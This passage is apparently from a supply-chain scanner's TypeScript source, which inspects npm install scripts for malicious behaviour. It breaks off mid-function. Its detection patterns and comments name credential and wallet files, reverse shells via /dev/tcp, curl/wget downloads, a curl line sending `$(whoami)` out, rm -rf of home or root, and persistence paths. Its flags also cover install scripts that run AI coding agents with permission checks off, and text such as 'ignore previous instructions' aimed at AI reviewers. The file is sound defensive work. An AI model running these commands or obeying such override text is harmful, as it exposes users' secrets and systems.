/**
 * Reading the JavaScript an install script runs (docs/checks.md, `install-scripts`): the shapes
 * of code that sends the machine's data away, reads its credentials, opens a shell to someone
 * else, publishes packages, or hides what it runs. Installers download binaries, spawn compilers
 * and read environment variables by design, so none of those alone is a finding; the shapes
 * are combinations, and a few markers no installer needs (a request-catcher host, a URL at a
 * bare public IP address, an obfuscator's names). Pure text inspection, never executed;
 * every pattern is linear in the text (the hostile suite's super-linear tests).
 */

import { AGENT_CONTROL_PATH, REVIEWER_DIRECTED, runsAgentUnattended } from './agent-code.js';
import { revealNames } from './js-reveal.js';
import { CATCHER_HOST } from './catcher-hosts.js';
import { stripComments as stripLexComments } from './js-lex.js';
import { evaluatesDownloaded } from './remote-eval.js';
import { escapeRegExp } from '../../util/escape-regexp.js';

/** A finding about code, and how grave it is. */
export interface CodeFinding {
  flag: CodeFlag;
  /** `dangerous`: what malicious packages do and installers never need; `suspicious`: hides or fetches what it runs. */
  grade: 'dangerous' | 'suspicious';
}

export type CodeFlag =
  /** Sends host data (hostname, user, network interfaces, the whole environment, credential files) over the network. */
  | 'exfiltration'
  /** Talks to a request-catcher or webhook host (interactsh, Burp Collaborator, pipedream, Discord/Telegram bots…), or to a host named after the package itself (a dependency-confusion call home). */
  | 'beacon'
  /** Reads credential files (SSH keys, cloud credentials, browser, Discord or wallet stores, /etc/passwd). */
  | 'credential-read'
  /** A socket wired to a shell, or bash's /dev/tcp. */
  | 'reverse-shell'
  /** Runs `npm publish` / `npm token` / `npm adduser`: spreads to the packages of whoever installs it. */
  | 'publishes'
  /** Deletes the home folder or the file system's root, recursively. */
  | 'destructive'
  /** Writes where code runs again later: shell startup files, crontab, LaunchAgents, autostart, Windows Run keys. */
  | 'persistence'
  /** Writes into the user's own folders (Desktop, Documents, Downloads, Pictures, OneDrive): a protestware drop (peacenotwar) or a wiper's overwrite. */
  | 'user-files'
  /** eval / new Function / vm on decoded text, or a process started with a decoded command line. */
  | 'decoded-eval'
  /** eval / new Function / vm on what it downloads, linked to the download (remote-eval.ts). */
  | 'remote-eval'
  /** An obfuscator's output (`_0x…` names), or a long encoded blob. */
  | 'obfuscated'
  /** Downloads from a bare public IP address or a paste/file-drop host, or runs curl/wget/PowerShell downloads. */
  | 'download-exec'
  /** Starts a detached process that outlives the install. */
  | 'detached-process'
  /** Hides the name of a process, network or host-data call: spelled in pieces, encoded, or looked up reflectively (js-reveal.ts). */
  | 'hidden-call'
  /** Runs an AI coding agent with its permission checks off (`claude --dangerously-skip-permissions`, `gemini --yolo`, `q chat --trust-all-tools`): the August 2025 nx compromise had the developer's own agents search the disk for secrets. */
  | 'agent-unleashed'
  /** Writes where AI coding agents read instructions, skills or tool servers (`.claude/skills`, `.cursor/rules`, `AGENTS.md`, `.mcp.json`…): the install changes what the developer's agent will do. */
  | 'agent-instructions'
  /** Text addressed to an AI reviewer (`ignore previous instructions`, `this code is legit`): written to talk an automated scanner out of a finding. */
  | 'reviewer-directed'
  /** A binding.gyp command expansion run for its side effects, its output thrown away or replaced by a constant (`<!(node index.js > /dev/null 2>&1 && echo stub.c)`): the June 2026 binding.gyp worm (gyp-commands.ts). */
  | 'hidden-build-command';

const GRADE: Record<CodeFlag, CodeFinding['grade']> = {
  exfiltration: 'dangerous',
  beacon: 'dangerous',
  'credential-read': 'dangerous',
  'reverse-shell': 'dangerous',
  publishes: 'dangerous',
  destructive: 'dangerous',
  persistence: 'suspicious',
  'user-files': 'suspicious',
  'decoded-eval': 'suspicious',
  'remote-eval': 'suspicious',
  obfuscated: 'suspicious',
  'download-exec': 'suspicious',
  'detached-process': 'suspicious',
  'hidden-call': 'suspicious',
  'agent-unleashed': 'dangerous',
  'agent-instructions': 'suspicious',
  'reviewer-directed': 'suspicious',
  'hidden-build-command': 'suspicious',
};

/**
 * Text scanned at most per file, JavaScript or shell: a worm's bundle (a few MiB of minified code
 * with the payload at its end) is read to its end; the facts keep as much of a file a command
 * names (src/sources/npm/install-code.ts), and install-scripts does not read a longer file as clean.
 */
export const MAX_SCANNED_CHARS = 8 * 1024 * 1024;

/** The code without its comments, strings kept (js-lex.ts; regular expression literals are read as code). */
export function stripComments(text: string): string {
  return stripLexComments(text);
}

const NETWORK =
  /\brequire\s*\(\s*['"`](?:node:)?(?:https?|http2|net|tls|dgram|dns|axios|node-fetch|request|got|needle|undici|superagent|ws)['"`]\s*\)|\bfrom\s*['"](?:node:)?(?:https?|http2|net|tls|dgram|dns|axios|node-fetch|request|got|needle|undici|superagent|ws)['"]|\bfetch\s*\(|\bXMLHttpRequest\b|\bnew\s+WebSocket\b|\b(?:https?|net|tls|dns|dgram)\.(?:get|request|connect|createConnection|lookup|resolve\w*|createSocket)\s*\(/;
/** What the machine is: its name, user, addresses, DNS servers, public IP. */
const HOST_DATA =
  /\b(?:os|require\s*\(\s*['"`](?:node:)?os['"`]\s*\))\.(?:hostname|userInfo|networkInterfaces)\s*(?:\.\s*(?:call|apply|bind)\s*)?\(|\[\s*['"`](?:hostname|userInfo|networkInterfaces)['"`]\s*\]\s*\(|\$\(\s*(?:whoami|hostname|id|uname)\b|`\s*(?:whoami|hostname)\s*`|\b(?:hostname|userInfo|networkInterfaces)\s*(?:\.\s*(?:call|apply|bind)\s*)?\(\s*(?:\{\s*\}\s*)?\)|\bdns\.getServers\s*\(|\bgetServers\s*\(\s*\)|\bapi\.ipify\.org\b|\bipinfo\.io\b|\bifconfig\.me\b|\bicanhazip\.com\b|\bcheckip\.amazonaws\.com\b/;
const HOST_DATA_AT = new RegExp(HOST_DATA.source, 'g');
/** A call that builds a path, and the temporary or home folder as one of its parts. */
const PATH_CALL = /\b(?:join|resolve)\s*\(/g;
const LOCAL_FOLDER = /\b(?:tmpdir|homedir)\s*\(\s*\)/;
/** How far around a host-data read its path call is looked for, either side. */
const PATH_CALL_REACH = 300;
/** Host-data reads (and uses of a name one is assigned to) looked at one by one at most; past them, the file counts as reading host data. */
const MAX_HOST_DATA_READS = 32;

/**
 * Whether `index` is inside the arguments of a `join(`/`resolve(` call that also names the
 * temporary or home folder (`path.join(os.tmpdir(), `x-${user}.log`)`).
 */
function insideLocalPath(text: string, index: number): boolean {
  const from = Math.max(0, index - PATH_CALL_REACH);
  const before = text.slice(from, index);
  let open = -1;
  for (const call of before.matchAll(PATH_CALL)) open = call.index + call[0].length;
  if (open < 0) return false;
  let depth = 1;
  for (let i = open; i < before.length; i++) {
    if (before[i] === '(') depth += 1;
    else if (before[i] === ')' && --depth === 0) return false;
  }
  let end = index;
  for (const limit = Math.min(text.length, index + PATH_CALL_REACH); end < limit && depth > 0; end++) {
    if (text[end] === '(') depth += 1;
    else if (text[end] === ')') depth -= 1;
  }
  return depth === 0 && LOCAL_FOLDER.test(before.slice(open) + text.slice(index, end));
}

/**
 * Whether the code reads what the machine is for more than naming a local file: install-time
 * analytics that keeps a log at `path.join(os.tmpdir(), `x-${os.userInfo().username}.log`)`
 * sends nothing about the machine. A read counts unless it is inside such a path call, or it is
 * assigned to a name (`const user = os.userInfo().username`) used only inside such calls
 * (docs/security.md, "Install scripts").
 */
function readsHostData(text: string): boolean {
  if (!HOST_DATA.test(text)) return false;
  let looked = 0;
  for (const read of text.matchAll(HOST_DATA_AT)) {
    looked += 1;
    if (looked > MAX_HOST_DATA_READS) return true;
    if (insideLocalPath(text, read.index)) continue;
    const prefixStart = Math.max(0, read.index - 80);
    const declared = /(?:const|let|var)(\s+)([A-Za-z_$][\w$]*)\s*=\s*$/.exec(text.slice(prefixStart, read.index));
    if (declared === null) return true;
    const name = declared[2]!;
    const declaredAt = prefixStart + declared.index + declared[0].indexOf(declared[1]!) + declared[1]!.length;
    let uses = 0;
    for (const use of text.matchAll(new RegExp(`(?<![\\w$.])${escapeRegExp(name)}(?![\\w$])`, 'g'))) {
      if (use.index === declaredAt) continue;
      uses += 1;
      if (uses > MAX_HOST_DATA_READS || !insideLocalPath(text, use.index)) return true;
    }
    if (uses === 0) return true;
  }
  return false;
}

/**
 * The whole environment serialised, or walked. The `debug` package's walk for its own settings
 * (`Object.keys(process.env).filter((key) => /^debug_/i.test(key))`, bundled into many packages
 * that use the network: mailgun.js, miniflare) picks only its DEBUG_ variables: not a dump.
 */
const ENV_DUMP =
  /\b(?:JSON\.stringify|querystring\.stringify|qs\.stringify|btoa|encodeURIComponent|String|Object\.(?:entries|keys|values))\s*\(\s*process\s*(?:\.\s*env|\[\s*['"`]env['"`]\s*\])\s*[,)](?!\s*\.\s*filter\s*\(\s*\(?\s*([\w$]{1,50})\s*\)?\s*=>\s*(?:\{\s*return\s+)?\/\^debug_\/i\s*\.\s*test\s*\(\s*\1\s*\))|\bbody\s*:\s*process\.env\b|\bdata\s*:\s*process\.env\b|\bmessage\s*:\s*process\.env\b/;
/**
 * A URL whose host begins with the package's own name (`http://${pkg.name}.cb.example/`,
 * `'https://' + packageName + '.x.example'`): the call home of a dependency-confusion probe, which
 * learns from the name looked up which package ran where; installers name their download host.
 */
const PACKAGE_NAME = String.raw`(?:\b(?:pkg|package|packageJson|pjson|manifest)\w{0,20}\s*(?:\.|\[\s*['"])\s*name\b|\bpackage_?name\b|\bpkg_?name\b|\bnpm_package_name\b|\bpackage\b|\brequire\s*\(\s*['"]\.\/package(?:\.json)?['"]\s*\)\s*\.\s*name\b)`;
const NAME_IN_HOST = new RegExp(String.raw`:\/\/(?:\$\{\s*${PACKAGE_NAME}\s*\}|['"${'`'}]\s*\+\s*${PACKAGE_NAME}\s*\+\s*['"${'`'}])\.(?:[a-z0-9-]+\.)+[a-z]{2,}`, 'i');
/** Files and variables that hold credentials. */
const CREDENTIAL_FILES =
  /\.ssh\b|\bid_rsa\b|\bid_ed25519\b|\bid_ecdsa\b|\.aws[\\/]+credentials\b|\.git-credentials\b|\/etc\/(?:passwd|shadow)\b|\.bash_history\b|\.zsh_history\b|\.docker[\\/]+config\.json\b|\.kube[\\/]+config\b|\.gnupg\b|['"`\\/]Login Data['"`]|['"`\\/]Local State['"`]|\bLocal Storage['"`]?\s*,?\s*['"`]?[\\/]?leveldb\b|\blogins\.json\b|\bkey[34]\.db\b|\bwallet\.dat\b|\.config[\\/]+solana\b|\bnkbihfbeogaeaoehlefnkodbefgpgknn\b|\bExodus['"`\\/]|\bexodus\.wallet\b|\bElectrum['"`\\/]|\.electrum\b|\bEthereum['"`\\/]+keystore\b|\blogin\.keychain\b|\btrufflehog\b/i;
const TOKENS = /\.npmrc\b|\b(?:NPM_TOKEN|NODE_AUTH_TOKEN|GITHUB_TOKEN|GH_TOKEN|AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|_authToken)\b/;
const FILE_READ = /\b(?:readFileSync|readFile|createReadStream|readdirSync|readdir|openSync)\s*\(/;
/** A command that prints a credential (`npm config get //registry…/:_authToken`, `cat ~/.npmrc`), run as a process reads it as a file read does. */
const COMMAND_READ = /['"`][^'"`\n]{0,200}?\b(?:npm\s+config\s+(?:get|list|ls)|cat|type|Get-Content)\b[^'"`\n]{0,200}?(?:_authToken|\.npmrc|\.ssh\b|id_rsa|\.aws[\\/]+credentials)/;
/** The code starts processes: child_process, or a module made for it (a bare `exec(` is as often a RegExp's). */
const PROCESS = /\bprocess\.binding\s*\(\s*['"`](?:spawn_sync|process_wrap)['"`]|\b(?:require|import)\s*\(\s*['"`](?:node:)?(?:child_process|execa|cross-spawn|shelljs)['"`]\s*\)|\bfrom\s*['"](?:node:)?(?:child_process|execa|cross-spawn|shelljs)['"]/;
const SHELL_PROGRAM = /['"`](?:\/bin\/)?(?:ba|z|da)?sh['"`]|['"`]cmd(?:\.exe)?['"`]|['"`]powershell(?:\.exe)?['"`]/;
const SOCKET = /\bnew\s+net\.Socket\b|\bnet\.(?:connect|createConnection)\s*\(|\bnew\s+Socket\s*\(/;
const DEV_TCP = /\/dev\/tcp\//;
const PIPES = /\.pipe\s*\(|\bstdio\s*:\s*\[?\s*['"`]?(?:pipe|inherit)|\.stdout\b|\.stdin\b/;
const NPM_PUBLISH = /\bnpm\s+(?:publish|token\s+create|adduser|login)\b|registry\.npmjs\.org\/-\/(?:npm\/v1\/tokens|user\/)|\/-\/package\/[^'"`]*\/dist-tags\b/;
/**
 * The calls that start a process with a command line: a decoded one runs what the file hides, as
 * eval of decoded text does. Called bare (destructured) or on child_process itself
 * (`cp.exec`, `child_process.exec` of the required module): a minified `t.exec(e)` is a RegExp's.
 */
const EXEC_CALL = /(?:(?<![\w$.])|(?:\brequire\s*\(\s*['"`](?:node:)?child_process['"`]\s*\)|\b(?:cp|child_process|childProcess|child)\b)\s*\.\s*)(?:exec|execSync|spawn|spawnSync|execFile|execFileSync)\s*\(/;
const EVAL = /(?:(?<![\w.$])|\b(?:global|globalThis|window|self)\s*\.\s*)eval\s*\(|(?<![\w.$])\(\s*0\s*,\s*eval\s*\)\s*\(|\bnew\s+Function\s*\(|(?<![\w.$])Function\s*\(\s*[\w'"`]|\bvm\.(?:runIn\w*Context|runInThisContext|compileFunction)\s*\(|\bnew\s+vm\.Script\b|\brequire\s*\(\s*['"`](?:node:)?vm['"`]\s*\)/;
const DECODE =
  /\bBuffer\.from\s*\([^)]{0,400}?['"`](?:base64|base64url|hex)['"`]|\batob\s*\(|\bfromCharCode\b|\bc(?:harCode|odePoint)At\b|\.split\s*\(\s*['"`]{2}\s*\)\s*\.reverse\s*\(\s*\)\s*\.join\b|\bdecodeURIComponent\s*\(\s*['"`](?:%[0-9a-f]{2}){8}/i;
const OBFUSCATOR_NAME = /\b_0x[0-9a-f]{4,6}\b/gi;
/** An obfuscator's output names many identifiers `_0x…`; hand-written and minified code name none. */
const MIN_OBFUSCATOR_NAMES = 10;
/** Characters of an evaluation's argument read at most. */
const ARGUMENT_CHARS = 4000;
/** Evaluations looked at most per file. */
const MAX_EVALS = 50;
/** A run of base64 characters, or of `\xHH` escapes, this long is code carried as data. */
const BLOB_CHARS = 2000;
const BLOB_ESCAPES = 200;
const isBase64 = (c: number): boolean => (c >= 65 && c <= 90) || (c >= 97 && c <= 122) || (c >= 48 && c <= 57) || c === 43 || c === 47;
const isHex = (c: number): boolean => (c >= 48 && c <= 57) || (c >= 65 && c <= 70) || (c >= 97 && c <= 102);

/** A long encoded run, found in one pass (a `{2000,}` pattern rescans each run from every position). */
function hasBlob(text: string): boolean {
  let run = 0;
  let escapes = 0;
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    run = isBase64(c) ? run + 1 : 0;
    if (run >= BLOB_CHARS) return true;
    // `\xHH`, one after another: each escape is one unit of the run.
    if (c === 92 && text.charCodeAt(i + 1) === 120 && isHex(text.charCodeAt(i + 2)) && isHex(text.charCodeAt(i + 3))) {
      if (++escapes >= BLOB_ESCAPES) return true;
      i += 3;
      run = 0;
    } else escapes = 0;
  }
  return false;
}
/** A URL at a bare public IPv4 address (private, loopback and link-local ranges excepted). */
const IP_URL = /\b(?:https?|ftp):\/\/(\d{1,3})\.(\d{1,3})\.\d{1,3}\.\d{1,3}\b/g;
const DROP_HOST = /\b(?:pastebin\.com\/raw|paste\.ee|transfer\.sh|cdn\.discordapp\.com\/attachments|file\.io|anonfiles\.com|temp\.sh|0x0\.st|bashupload\.com)\b/i;
/**
 * A downloader run as a command: in a command line, followed by an argument (`'curl -fsSL …'`) or
 * by more of the line joined on (`'curl ' + url`), or as a program named alone — the first
 * argument of a call (`spawn('curl', [...])`) or a value given a name (`const bin = 'curl'`). The
 * bare name in a list of words is none of these (meow 14.1.0 bundles the SPDX licence ids, "curl"
 * among them, beside its child_process).
 */
const SHELL_DOWNLOAD =
  /['"`][^'"`]{0,200}?\b(?:curl|wget|Invoke-WebRequest|iwr|certutil|bitsadmin)(?:\.exe)?(?:[ \t]+[^\s'"`]|[ \t]*['"`]\s*\+)|(?:\(|[=:])\s*['"`](?:curl|wget|Invoke-WebRequest|iwr|certutil|bitsadmin)(?:\.exe)?['"`]\s*[,;)}\n]/i;
const SHELL_DOWNLOADS = new RegExp(SHELL_DOWNLOAD.source, 'gi');
/** Where a download command's own program name stands in a match of SHELL_DOWNLOAD. */
const DOWNLOADER_NAME = /curl|wget|Invoke-WebRequest|iwr|certutil|bitsadmin/i;
/**
 * A call whose arguments are shown to a person, not run: an Error thrown where it is made, a
 * console line. An Error kept in a name is not one (`const e = new Error('curl …'); exec(e.message)`).
 */
const MESSAGE_CALLS = /\bthrow\s+new\s+[\w$]*Error\s*\(|\bconsole\s*\.\s*(?:log|error|warn|info|debug)\s*\(/g;
/** The declaration a value is assigned in, its statement not yet ended (`let hint = c ? '…' : "curl …"`). */
const DECLARED = /\b(?:const|let|var)\s+([\w$]{1,100})\s*=[^;]*$/;
/** How far back the declaration of a download command's name is looked for. */
const DECLARATION_CHARS = 400;
/** A reachability probe: curl's or wget's output thrown away (`curl -s -o /dev/null -w "%{http_code}" …`, `wget --spider`). */
const PROBE = /\s(?:-o|-O|--output|--output-document)[\s=]+\/dev\/null\b|\s--spider\b/;
/** The end of one command in a command line: a separator, a pipe, a closing `)` or backtick, a line end. */
const COMMAND_END = /[;|&)\n`'"]/;
/** A command substitution or a host-data word in a probe's own command: data sent out in its address (`curl -o /dev/null https://x/$(whoami)`). */
const PROBE_SENDS = /\$\(|`|\$\{?(?:HOME|USER|USERNAME|HOSTNAME|LOGNAME)\b|\b(?:whoami|hostname|uname|printenv)\b/;
/** A second downloader, or anything piped into a shell, later on the same line. */
const MORE_DOWNLOADS = /\b(?:curl|wget)\b|\|\s*(?:ba|z)?sh\b/i;
/** An inlined package.json: `scripts` opens an object after a `version` holding a version number on the same line (its end: MANIFEST_FIELD_NEXT). */
const MANIFEST_SCRIPTS = /["']?version["']?\s*:\s*["']\d+\.\d+\.\d+[^"']{0,40}["'][^\n]{0,2000}?["']?scripts["']?\s*:\s*\{/g;
/** What follows an inlined package.json's `scripts` object: another of its fields. */
const MANIFEST_FIELD_NEXT = /^\}\s*,\s*["']?(?:dependencies|devDependencies|peerDependencies|optionalDependencies|engines|repository|keywords|bin|files|main|module|types|type|license|author|homepage|bugs|publishConfig|packageManager|workspaces|exports)["']?\s*:/;
/** Code that reads a `scripts` member (`pkg.scripts.x`, `pkg['scripts']`, `const { scripts } = pkg`). */
const READS_SCRIPTS = /\.\s*scripts\b|\[\s*['"`]scripts['"`]\s*\]|\{[^{}=]{0,200}\bscripts\b[^{}=]{0,200}\}\s*=(?!=)/;
/** At most this many download commands are looked at in one text (each a few scans of it). */
const MAX_DOWNLOAD_COMMANDS = 32;

/**
 * A curl/wget command line that can be run (SHELL_DOWNLOAD): not one only shown to a person —
 * inside the text of an Error made or a console line, or held by a name declared for it that is
 * used only there (bun 1.4.5's install.js tells the user to install with `curl -fsSL … | bash`
 * when its package manager cannot) —, nor a value of the `scripts` of a package.json a bundle
 * inlined (MANIFEST_SCRIPTS), nor a probe that throws its output away (probes). A command line
 * anywhere else counts, as do the commands past the first MAX_DOWNLOAD_COMMANDS.
 */
function runsDownloadCommand(text: string): boolean {
  let seen = 0;
  let shownAt: ((at: number) => boolean) | null = null;
  const spans = (calls: RegExp): Array<readonly [number, number]> =>
    [...text.matchAll(new RegExp(calls.source, 'g'))].map((m) => {
      const open = m.index + m[0].length - 1;
      return [open, open + 1 + argumentText(text, open).length] as const;
    });
  const shown = (at: number): boolean => {
    if (shownAt === null) {
      // A message handed to a process call is run, whatever it was made as (`exec(new Error('curl …').message)`).
      const runs = within(spans(EXEC_CALL));
      shownAt = within(spans(MESSAGE_CALLS).filter(([start]) => !runs(start)));
    }
    return shownAt(at);
  };
  let manifests: ((at: number) => boolean) | null = null;
  // The `scripts` of a package.json a bundle inlined (to print its version): text, never run by the code.
  const manifestScript = (at: number): boolean => {
    // Code that reads a `scripts` member may run one: then no inlined package.json's scripts are text.
    if (READS_SCRIPTS.test(text)) return false;
    manifests ??= within(
      [...text.matchAll(MANIFEST_SCRIPTS)].flatMap((m) => {
        const open = m.index + m[0].length - 1;
        const end = objectEnd(text, open);
        return MANIFEST_FIELD_NEXT.test(text.slice(end, end + 40)) ? [[open, end] as const] : [];
      }),
    );
    return manifests(at);
  };
  for (const match of text.matchAll(SHELL_DOWNLOADS)) {
    if (++seen > MAX_DOWNLOAD_COMMANDS) return true;
    const at = match.index + Math.max(0, match[0].search(DOWNLOADER_NAME));
    if (shown(at) || manifestScript(at) || probes(text, at)) continue;
    const from = Math.max(0, at - DECLARATION_CHARS);
    const declared = DECLARED.exec(text.slice(from, at));
    if (declared === null) return true;
    const name = declared[1]!;
    const declaredAt = from + declared.index + declared[0].indexOf(name, declared[0].search(/\s/));
    const uses = [...text.matchAll(new RegExp(`(?<![\\w$.])${escapeRegExp(name)}(?![\\w$])`, 'g'))].filter((u) => u.index !== declaredAt);
    // The name must be used, and only in messages.
    if (uses.length === 0 || uses.some((u) => !shown(u.index))) return true;
  }
  return false;
}

/**
 * Whether a position lies strictly inside one of the spans (given in order of their starts, as
 * matches come): a binary search over the starts and the furthest end reached so far, so that
 * many spans and many positions cost n log n, not n².
 */
function within(spans: ReadonlyArray<readonly [number, number]>): (at: number) => boolean {
  const furthest: number[] = [];
  for (const [, end] of spans) furthest.push(Math.max(end, furthest.at(-1) ?? -1));
  return (at) => {
    let low = 0;
    let high = spans.length;
    while (low < high) {
      const mid = (low + high) >> 1;
      if (spans[mid]![0] < at) low = mid + 1;
      else high = mid;
    }
    return low > 0 && furthest[low - 1]! > at;
  };
}

/**
 * The command starting at `at` is a probe (PROBE: its output thrown away) and nothing later on its
 * line downloads or feeds a shell: gitlab-ci-local waits for a container's registry with
 * `until [ "$(curl -s -o /dev/null -k -w "%{http_code}" https://…)" = "200" ]`.
 */
function probes(text: string, at: number): boolean {
  const line = text.slice(at, at + DECLARATION_CHARS).split('\n')[0]!;
  const end = line.slice(4).search(COMMAND_END);
  const command = end < 0 ? line : line.slice(0, end + 4);
  return PROBE.test(command) && !PROBE_SENDS.test(command.slice(4)) && !MORE_DOWNLOADS.test(line.slice(command.length));
}

/** The index of the `}` closing the object literal opened at `open` (strings skipped), or the end of what was looked at. */
function objectEnd(text: string, open: number): number {
  return closingIndex(text, open, '{', '}');
}

/** A recursive removal of the home folder or the root (`rm -rf ~`, `rm -rf /`, `fs.rmSync(os.homedir(), { recursive: true })`). */
const DESTRUCTIVE =
  /\brm\s+-(?:rf|fr|r\s+-f|f\s+-r)\s+(?:~\/?|\/\*?|\$HOME\/?\*?|\$\{HOME\}\/?)(?=['"`\s;&|)]|$)|\b(?:rmSync|rmdirSync|rm|rmdir|remove|removeSync|rimraf(?:\.sync)?)\s*\(\s*(?:os\.homedir\(\)|homedir\(\)|process\.env\.HOME|['"`]\/['"`]|['"`]~['"`])\s*[,)]/;
/**
 * Places code is run from again later: the user's shell startup files, crontab, login items, autostart entries, Windows Run keys and Startup folder.
 * A startup file's name starts with its dot, so a dot after a name character is a property or an extension (`options.profile`, mime-db's `vnd.evolv.ecig.profile`), no such file.
 */
const PERSISTENCE =
  /(?<![\w$])\.(?:bashrc|bash_profile|zshrc|zprofile|profile)\b|\bcrontab\b|\/etc\/cron|LaunchAgents|LaunchDaemons|\.config[\\/]+autostart|\.config[\\/]+systemd[\\/]+user|CurrentVersion\\{1,2}Run\b|Start Menu[\\/]+Programs[\\/]+Startup/i;
/**
 * A line of a shell script held as text that is a comment (`#` and a blank first) with no quote, backtick, backslash or `$` on it,
 * so nothing on it can end the text or break the shell's line: yargs' completion script template tells the user to run
 * `{{app_path}} {{completion_command}} >> ~/.bashrc` on such lines. A JavaScript line cannot start so (a private name has no blank after `#`).
 */
const SHELL_COMMENT_LINE = /^[ \t]*#[ \t][^\n`'"\\$]*$/gm;

/** The text without the shell comment lines that name a startup file: instructions held as text, not a write. */
function withoutStartupComments(text: string): string {
  return text.replace(SHELL_COMMENT_LINE, (line) => (PERSISTENCE.test(line) ? '' : line));
}
const WRITES = /\b(?:writeFileSync|writeFile|appendFileSync|appendFile|createWriteStream|copyFileSync|copyFile|cpSync|symlinkSync|symlink|outputFileSync|outputFile|copySync|ensureSymlinkSync)\s*\(|\bcrontab\s+-|\breg(?:\.exe)?\s+add\b|>>?\s*~?\/?\S*\.(?:bashrc|zshrc|profile)\b/;
/** PERSISTENCE, every mention. */
const PERSISTENCE_ALL = new RegExp(PERSISTENCE.source, 'gi');
/** A write within this many characters of a place's name, either side, is taken as writing it (`fs.appendFileSync(path.join(os.homedir(), '.bashrc'), …)`, `>> ~/.bashrc` in a command). */
const PERSISTENCE_NEAR_CHARS = 1000;
/** A name holding the place's path is followed this far either side of it, to a write handed it. */
const PERSISTENCE_FLOW_CHARS = 16 * 1024;
/** Mentions followed in one window; a window with more counts as writing one (a budget spent is not a text cleared). */
const MAX_PERSISTENCE_MENTIONS = 64;
/** Names followed from one mention (the path's name, and names built from it). */
const MAX_PERSISTENCE_NAMES = 8;
/** The name assigned last in a statement's start: `const rc = path.join(os.homedir(), ` → `rc`, minified `a=e.join(t,` → `a`. */
const ASSIGNED = /(?:^|[^\w$.])([A-Za-z_$][\w$]{0,100})\s*=(?![=>])/g;
/** A write call (WRITES' calls), to find the text handed to it. */
const WRITE_CALLS = /\b(?:writeFileSync|writeFile|appendFileSync|appendFile|createWriteStream|copyFileSync|copyFile|cpSync|symlinkSync|symlink|outputFileSync|outputFile|copySync|ensureSymlinkSync)\s*\(/g;

/** The write calls whose second argument is the path written. */
const COPIES = /^(?:copyFileSync|copyFile|cpSync|symlinkSync|symlink|copySync|ensureSymlinkSync)\b/;
/** A value read from a path rather than built from it. */
const READS_PATH = /\b(?:read\w*|stat\w*|lstat\w*|exists\w*|access\w*)\s*\(/;
/** The name a statement assigns when the text at `at` is in its value (up to 300 characters back, to the statement's start), or undefined. */
function assignedAt(text: string, at: number): string | undefined {
  // A template's `${…}` is no statement's end.
  const before = text.slice(Math.max(0, at - 300), at).replace(/\$\{[^{};]{0,300}\}/g, '');
  const start = Math.max(before.lastIndexOf(';'), before.lastIndexOf('{'), before.lastIndexOf('}'));
  let name: string | undefined;
  for (const m of before.slice(start + 1).matchAll(ASSIGNED)) name = m[1];
  return name;
}

/** The arguments of a call whose `(` ends at `from`, split at its own commas: to its closing parenthesis, at most 400 characters. */
function callArgs(text: string, from: number): string[] {
  const args: string[] = [];
  let depth = 0;
  let start = from;
  const end = Math.min(text.length, from + 400);
  for (let i = from; i < end; i++) {
    const c = text[i];
    if (c === '(' || c === '[' || c === '{') depth++;
    else if (c === ',' && depth === 0) {
      args.push(text.slice(start, i));
      start = i + 1;
    } else if (c === ')' || c === ']' || c === '}') {
      if (depth === 0) break;
      depth--;
    }
  }
  args.push(text.slice(start, end));
  return args;
}

/** A pattern for any of the names as a whole word. */
function wordsOf(names: ReadonlySet<string>): RegExp {
  return new RegExp(`(?<![\\w$])(?:${[...names].map(escapeRegExp).join('|')})(?![\\w$])`);
}

/**
 * Whether the text writes into a place code runs from again later, not only names one: a write
 * near the place's name (the path written is spelled in the call or just before it), or a write
 * handed a name that holds the path, or one built from it (`const rc = path.join(os.homedir(),
 * '.bashrc')` … `fs.appendFileSync(rc, …)`), nearby. A bundle's help text that names `~/.zshrc`
 * far from its unrelated file writes is no write to it (docs/security.md).
 */
function writesStartupPlace(text: string): boolean {
  let mentions = 0;
  for (const mention of text.matchAll(PERSISTENCE_ALL)) {
    if (++mentions > MAX_PERSISTENCE_MENTIONS) return true;
    const at = mention.index;
    const end = at + mention[0].length;
    if (WRITES.test(text.slice(Math.max(0, at - PERSISTENCE_NEAR_CHARS), end + PERSISTENCE_NEAR_CHARS))) return true;
    const name = assignedAt(text, at);
    if (name === undefined) continue;
    const region = text.slice(Math.max(0, at - PERSISTENCE_FLOW_CHARS), end + PERSISTENCE_FLOW_CHARS);
    // The paths written nearby: a copy's or a link's second argument, a write's first.
    const written = [...region.matchAll(WRITE_CALLS)].map((call) => callArgs(region, call.index + call[0].length)[COPIES.test(call[0]) ? 1 : 0] ?? '');
    if (written.length === 0) continue;
    const names = new Set([name]);
    let named = wordsOf(names);
    for (const m of region.matchAll(ASSIGNED)) {
      if (names.size >= MAX_PERSISTENCE_NAMES) break;
      const valueStart = m.index + m[0].length;
      const value = region.slice(valueStart, valueStart + 300);
      const stop = value.search(/;|\n[ \t]*\n/);
      const built = stop === -1 ? value : value.slice(0, stop);
      // A path built from the name (`path.join(dir, 'x.plist')`), not what is read from it.
      if (!names.has(m[1]!) && !READS_PATH.test(built) && named.test(built)) {
        names.add(m[1]!);
        named = wordsOf(names);
      }
    }
    if (written.some((target) => named.test(target))) return true;
  }
  return false;
}

/** A user's own folder named from the home folder: `${homedir}/Desktop`, `path.join(os.homedir(), 'Documents')`, `%USERPROFILE%\\OneDrive`. */
const USER_FOLDER =
  /(?:\bhomedir\b|\bHOME\b|\bUSERPROFILE\b|~)[^;\n]{0,80}?[\\/'"`]\s*(?:Desktop|Documents|Downloads|Pictures|OneDrive)\b/;
const DETACHED = /\bdetached\s*:\s*(?:true|!0)\b/;
const UNREF = /\.unref\s*\(\s*\)/;

function publicIpUrl(text: string): boolean {
  for (const match of text.matchAll(IP_URL)) {
    const a = Number(match[1]);
    const b = Number(match[2]);
    const isPrivate = a === 10 || a === 127 || a === 0 || (a === 172 && b >= 16 && b <= 31) || (a === 192 && b === 168) || (a === 169 && b === 254);
    if (!isPrivate && a <= 255) return true;
  }
  return false;
}

/** The text of a call's argument list from its opening parenthesis (balanced, strings skipped), at most ARGUMENT_CHARS. */
function argumentText(text: string, open: number): string {
  return text.slice(open + 1, closingIndex(text, open, '(', ')'));
}

/** The index of the `close` balancing the `open` character at `at` (strings skipped), or where looking stopped (ARGUMENT_CHARS on). */
function closingIndex(text: string, at: number, open: string, close: string): number {
  let depth = 0;
  const limit = Math.min(text.length, at + ARGUMENT_CHARS);
  for (let i = at; i < limit; i++) {
